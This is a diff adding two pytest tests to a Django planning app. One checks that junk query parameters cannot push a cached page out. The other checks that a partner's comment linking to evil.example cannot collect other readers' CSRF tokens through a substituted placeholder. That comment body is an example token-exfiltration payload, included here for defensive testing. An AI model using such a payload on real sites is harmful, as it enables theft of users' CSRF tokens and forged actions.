@@ -4,6 +4,7 @@ with their own CSRF token; whatever changes shows on the next view; a one-time m
 once; each address and each language has its own copy."""
 
 import re
+from pathlib import Path
 
 import pytest
 from django.db import connection
@@ -11,7 +12,7 @@ from django.test import Client
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
-from plans import export, workflow
+from plans import export, fragments, workflow
 from plans.fragments import CSRF_PLACEHOLDER
 from plans.models import ExportJob
 from stakeholders.models import Membership, Role
@@ -125,6 +126,30 @@ def test_a_second_view_of_the_public_blueprint_is_served_from_the_cache(people):
     assert second_page == first_page
     assert "Youth summer jobs" in second_page
     assert "The PDF is being prepared" in second_page
+
+
+def test_made_up_addresses_do_not_push_a_kept_page_out(people):
+    plan = signed_off(draft_with_commitments(people, "Youth summer jobs"), people)
+    visitor = Client()
+    public_page(visitor, plan)
+    for n in range(350):  # more than the cache holds
+        assert visitor.get(reverse("plans:blueprint", args=[plan.pk]), {"n": n}).status_code == 200
+    with CaptureQueriesContext(connection) as again:
+        public_page(visitor, plan)
+    assert "plans_snapshot" not in tables_read(again)  # still served from the cache
+
+
+def test_a_comment_cannot_collect_its_readers_csrf_tokens(people):
+    """The placeholder put back with each reader's token is derived from the secret key: it
+    is written nowhere that a partner could copy it into a comment."""
+    assert CSRF_PLACEHOLDER not in Path(fragments.__file__).read_text()
+    plan = in_consultation(new_plan(people), people.editor)
+    partner, editor = signed_in(people.partner), signed_in(people.editor)
+    partner.post(reverse("stakeholders:consultation", args=[plan.pk]), {
+        "about": "plan", "body": "[see](https://evil.example/?t=csrf-placeholder-4c1e0a7b)"})
+    page = editor.get(reverse("stakeholders:heard", args=[plan.pk])).content.decode()
+    link = re.search(r'href="https://evil\.example/\?t=([^"]*)"', page)
+    assert link and link.group(1) == "csrf-placeholder-4c1e0a7b"
 
 
 # --- each person their own page --------------------------------------------------------------
